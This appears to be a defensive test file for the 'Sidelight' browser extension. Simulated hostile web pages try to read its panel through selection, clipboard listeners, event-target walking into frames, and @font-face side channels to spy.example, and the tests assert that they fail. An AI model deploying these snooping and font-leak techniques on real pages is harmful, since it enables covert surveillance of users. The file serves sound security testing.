import { expect } from 'vitest';
import type { Settings } from '../../../../src/core/settings.ts';
import { changeSettings } from '../../harness/extension-api.ts';
import { messagePattern } from '../../harness/messages.ts';
import { clickInPanel, readPanel, waitForPanel } from '../../harness/panel-view.ts';
import { rest } from '../../harness/until.ts';
import { type HostilePage, html, type Stage, story, unharmed } from '../hostile-page.ts';

/** Words that the panel says and the page does not. */
async function secretsOf({ world, page }: Stage): Promise<string[]> {
  const view = await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
  const own = (await page.evaluate(() => document.body.textContent)).toLowerCase();
  return (
    [...new Set(view.text.split('\n').map((line) => line.trim()))]
      .filter((line) => line.length > 8 && line.length < 200 && !own.includes(line.toLowerCase()))
      // The frame says whose it is, for readers' aids.
      .filter((line) => line !== 'Sidelight')
      .slice(0, 40)
  );
}

/** Letters whose fonts a page may ask for one by one, to learn which of them are shown. */
const families = [
  'Iowan Old Style',
  'Charter',
  'Sitka Text',
  'Source Serif 4',
  'Noto Serif',
  'Cambria',
  'Georgia',
  'serif',
  'sans-serif',
  'system-ui',
  '-apple-system',
  'Segoe UI',
  'Noto Sans',
  'Helvetica Neue',
  'Arial',
  'monospace',
  'ui-monospace',
  'ui-serif',
  'ui-sans-serif',
];
const spyingFonts = [...'Qzxj§…→']
  .flatMap((letter) =>
    families.map(
      (family) =>
        `@font-face{font-family:"${family}";src:url("https://spy.example/${encodeURIComponent(family)}/${letter.codePointAt(0)}");unicode-range:U+${letter.codePointAt(0)?.toString(16)}}`,
    ),
  )
  .concat(
    families.map(
      (family) =>
        `@font-face{font-family:"${family}";src:url("https://spy.example/${encodeURIComponent(family)}")}`,
    ),
  );

/**
 * Goes from every event to every node that a browser hands out with it, from there to all that hangs together with it, and into
 * frames; notes all text and addresses that it reads on the way.
 */
const reachIn = `
  const reached = { read: [], tried: 0, frames: [] }; window.reached = reached;
  const seen = new Set();
  const walk = (node) => {
    if (!node || !node.nodeType || node === document || seen.has(node) || document.documentElement.contains(node) && !node.shadowRoot && node.nodeName !== 'IFRAME') return;
    seen.add(node); reached.read.push(node.textContent ?? '', node.innerHTML ?? '', node.outerHTML ?? '');
    if (node.nodeName === 'IFRAME') {
      reached.frames.push(node); reached.read.push(node.src, String(node.getAttribute('src')));
      for (const look of [() => node.contentDocument?.body.textContent, () => node.contentWindow.location.href, () => node.contentWindow.document.body.textContent, () => node.contentWindow.name, () => node.contentWindow.frames.length]) try { reached.read.push(String(look())); } catch {}
    }
    for (const next of [node.parentNode, node.host, node.getRootNode?.(), ...(node.childNodes ?? [])]) walk(next);
  };
  for (const type of ['pointermove', 'pointerrawupdate', 'pointerover', 'pointerout', 'pointerenter', 'pointerleave', 'pointerdown', 'pointerup', 'mousemove', 'mouseover', 'mouseout', 'mouseenter', 'mouseleave', 'mousedown', 'mouseup', 'click', 'wheel', 'keydown', 'keyup', 'focus', 'blur', 'focusin', 'focusout', 'selectionchange', 'contextmenu'])
    addEventListener(type, (event) => {
      const events = [event, ...(event.getCoalescedEvents?.() ?? []), ...(event.getPredictedEvents?.() ?? [])];
      for (const each of events) for (const name of ['target', 'originalTarget', 'explicitOriginalTarget', 'relatedTarget', 'rangeParent', 'srcElement', 'currentTarget', 'fromElement', 'toElement']) { reached.tried++; try { walk(each[name]); } catch {} }
      walk(document.activeElement);
    }, true);`;

/** Pages that would like to know what stands in the panel, or what the reader has set. */
export const readingUs: HostilePage[] = [
  unharmed('selects everything and reads all that it can', '', {
    body: () => html({}),
    async act(stage) {
      const secrets = await secretsOf(stage);
      const found = await stage.page.evaluate((lines) => {
        document.execCommand('selectAll');
        const selected = String(getSelection());
        getSelection()?.selectAllChildren(document.documentElement);
        const everything = [
          selected,
          String(getSelection()),
          document.body.innerText,
          document.documentElement.outerHTML,
          document.documentElement.textContent,
          (document.querySelector(':popover-open') as HTMLElement | null)?.innerText ?? '',
          new XMLSerializer().serializeToString(document),
          String(getSelection()?.getRangeAt(0)),
        ];
        return everything.flatMap((text, way) =>
          lines.filter((line) => text.includes(line)).map((line) => `way ${way}: ${line}`),
        );
      }, secrets);
      expect(secrets.length).toBeGreaterThan(3);
      expect(found).toEqual([]);
    },
  }),
  unharmed(
    'listens to what is copied',
    `addEventListener('copy', (event) => { window.copied = String(getSelection()) + (event.clipboardData?.getData('text/plain') ?? ''); });`,
    {
      async act(stage) {
        const secrets = await secretsOf(stage);
        const view = await readPanel(stage.world, stage.page);
        const { x, y, width } = view?.box ?? { x: 0, y: 0, width: 0 };
        // The reader selects some lines of the panel with the mouse and copies them.
        await stage.page.mouse.move(x + 40, y + 90);
        await stage.page.mouse.down();
        await stage.page.mouse.move(x + width - 40, y + 500, { steps: 4 });
        await stage.page.mouse.up();
        await stage.page.keyboard.down('Control');
        await stage.page.keyboard.press('c');
        await stage.page.keyboard.up('Control');
        await rest(150);
        const heard = String(await stage.page.evaluate('String(window.copied) + String(getSelection())'));
        expect(secrets.filter((line) => heard.includes(line))).toEqual([]);
      },
    },
  ),
  {
    what: 'lends fonts that tell which letters are shown',
    outcomes: ['recognized'],
    panel: 'there',
    body: () => html({ head: `<style>${spyingFonts.join('\n')} main{font-family:fantasy}</style>` }),
    async act({ world, page }) {
      await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
      await rest(500);
      const asked = world.server.askedOf('spy.example').map(({ url }) => decodeURIComponent(url.pathname));
      expect([...new Set(asked)], 'the page is asked for fonts of the panel').toEqual([]);
    },
  },
  {
    what: 'looks at the style of our element for settings',
    outcomes: ['recognized'],
    panel: 'there',
    body: () => html({}),
    async act({ world, page }) {
      const look = () =>
        page.evaluate(() => {
          const host = document.querySelector(':popover-open');
          if (!host) return null;
          const style = getComputedStyle(host);
          const names = [...style, '--panel-width', '--text', '--paper', '--ink', '--inset', '--gap-1'];
          return {
            style: names.map((name) => `${name}: ${style.getPropertyValue(name)}`),
            box: host.getBoundingClientRect().toJSON() as object,
            attributes: host.getAttributeNames().map((name) => `${name}=${host.getAttribute(name)}`),
            scroll: [host.scrollWidth, host.clientHeight, (host as HTMLElement).offsetWidth],
          };
        });
      const first = await look();
      const changes: Partial<Settings>[] = [
        { theme: 'dark' },
        { textSize: 150 },
        { hiddenSites: ['bbc.com'] },
        { consents: { wayback: 'never' } },
      ];
      for (const change of changes) {
        await changeSettings(world, change);
        await rest(350);
        expect(await look(), JSON.stringify(change)).toEqual(first);
      }
      await changeSettings(world, { theme: 'system', textSize: 100, hiddenSites: [], consents: {} });
    },
  },
  unharmed('follows every event into what is below the pointer and has the focus', reachIn, {
    async act(stage) {
      const { world, page } = stage;
      const secrets = await secretsOf(stage);
      const { box } = await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
      for (const y of [30, 90, 200, 320, 440, 560])
        await page.mouse.move(box.x + box.width / 2, y, { steps: 5 });
      await page.mouse.wheel({ deltaY: 80 });
      await clickInPanel(world, page, messagePattern('tab_sources'));
      await clickInPanel(world, page, messagePattern('tab_topics'));
      for (const key of ['Tab', 'Tab', 'ArrowDown', 'a'] as const) await page.keyboard.press(key);
      await page.mouse.move(box.x - 200, 300, { steps: 4 });
      await rest(200);
      const { read, tried } = (await page.evaluate('reached')) as { read: string[]; tried: number };
      expect(tried).toBeGreaterThan(10);
      expect(secrets.length).toBeGreaterThan(3);
      const all = read.join('\n');
      expect(secrets.filter((line) => all.includes(line))).toEqual([]);
      expect(all).not.toMatch(/-extension:/);
      // Asked for a text that it knows, a window with a frame of others answers no, or with an error.
      const found = await page.evaluate((lines) => {
        const { find } = window as unknown as { find(text: string, ...how: boolean[]): boolean };
        const ask = (line: string) => {
          try {
            return find.call(window, line, false, false, true, false, true);
          } catch {
            return false;
          }
        };
        return lines.filter(ask);
      }, secrets);
      expect(found).toEqual([]);
    },
  }),
  unharmed('empties our frame and speaks to it', reachIn, {
    panel: 'any',
    async act({ world, page }) {
      const { box } = await waitForPanel(world, page, 'the open panel', ({ isOpen }) => isOpen);
      for (let x = box.x - 60; x < box.x + 60; x += 8) await page.mouse.move(x, 400);
      await page.evaluate(`for (const frame of reached.frames) {
        for (const message of [{ secret: '' }, { secret: '1-2-3-4' }, { place: null }, { facts: { title: 'x' } }])
          frame.contentWindow.postMessage(message, '*', [new MessageChannel().port2]);
        try { frame.contentWindow.location = 'about:blank'; } catch {}
      }`);
      await rest(600);
      const { read } = (await page.evaluate('reached')) as { read: string[] };
      expect(read.join('\n')).not.toMatch(/-extension:/);
    },
  }),
  unharmed('sets the variables of our style sheets', '', {
    body: () =>
      html({
        script: `try { CSS.registerProperty({ name: '--panel-width', syntax: '<length>', inherits: true, initialValue: '1px' }); } catch {}`,
        head: `<style>*,html,[popover]{--panel-width:1px!important;--text:0.01!important;--paper:transparent;--gap-4:900px;--inset:0}</style>`,
        body: story,
      }),
  }),
];
